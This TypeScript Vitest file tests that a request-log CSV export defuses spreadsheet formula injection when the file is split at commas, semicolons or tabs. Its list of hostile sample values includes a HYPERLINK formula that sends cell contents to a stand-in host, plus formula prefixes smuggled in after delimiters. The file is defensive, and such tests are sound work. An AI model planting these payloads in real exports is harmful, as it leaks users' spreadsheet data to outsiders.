import { describe, expect, it } from 'vitest';
import { formatRecords } from '../../src/request-log/export.js';

/**
 * CSV exports (request log, usage) opened in a spreadsheet: text that a client controls (a model name, a user agent,
 * an error message) must never become a formula (OWASP "CSV Injection"), however the spreadsheet splits the file. A
 * spreadsheet in a locale whose list separator is ';' (most of Europe) opens a .csv split at ';', and a pasted or
 * imported file may be split at tabs: a cell that starts a formula after such a character is as dangerous as one
 * at the start of the field.
 */

/** Splits CSV text into records of cells at `delimiter`, honouring RFC 4180 double quotes, as spreadsheets do. */
function readAs(text: string, delimiter: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const character = text[index] as string;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === delimiter) {
      cells.push(cell);
      cell = '';
    } else if (character === '\n') {
      cells.push(cell);
      records.push(cells);
      cells = [];
      cell = '';
    } else if (character !== '\r') cell += character;
  }
  return records;
}

async function csvOf(records: Array<Record<string, unknown>>): Promise<string> {
  const columns = Object.keys(records[0] ?? {}).map(
    (name) => [name, (record: Record<string, unknown>) => record[name]] as const,
  );
  const stream = formatRecords(
    (async function* () {
      yield records;
    })(),
    'csv',
    columns,
    (record) => record,
  );
  let text = '';
  for await (const chunk of stream) text += String(chunk);
  return text;
}

const formulaStart = /^[=+\-@\t\r]/;

const hostile = [
  '=HYPERLINK("https://evil.test/?leak="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  'gpt-4o;=HYPERLINK("https://evil.test","x")',
  'gpt-4o;+1+1',
  'curl/8;@SUM(1)',
  'model\t=1+1',
  'model,=1+1',
];

describe('CSV exports opened in a spreadsheet', () => {
  it('defuse a formula at the start of a field: the text is kept, after an apostrophe', async () => {
    const text = await csvOf(hostile.map((model) => ({ model, tokens: -5 })));
    const rows = readAs(text, ',').slice(1);
    expect(rows.map((row) => row[0])).toEqual(hostile.map((model) => (formulaStart.test(model) ? `'${model}` : model)));
    // Numbers stay numbers, negative ones included.
    expect(rows.map((row) => row[1])).toEqual(hostile.map(() => '-5'));
  });

  for (const [name, delimiter] of [
    ['a comma', ','],
    ['a semicolon (the list separator of many locales)', ';'],
    ['a tab', '\t'],
  ] as const) {
    it(`start no formula in any cell when split at ${name}`, async () => {
      const text = await csvOf(hostile.map((model) => ({ time: '2026-11-27T10:00:00.000Z', model, userAgent: model })));
      for (const row of readAs(text, delimiter)) {
        for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(formulaStart);
      }
    });
  }

  it('leave empty values empty and keep numbers and booleans unquoted', async () => {
    const text = await csvOf([{ model: 'mock', ttft: null, latency: 12, stream: true, cost: 0.0001 }]);
    expect(text).toBe('"model","ttft","latency","stream","cost"\n"mock",,12,true,0.0001\n');
  });
});
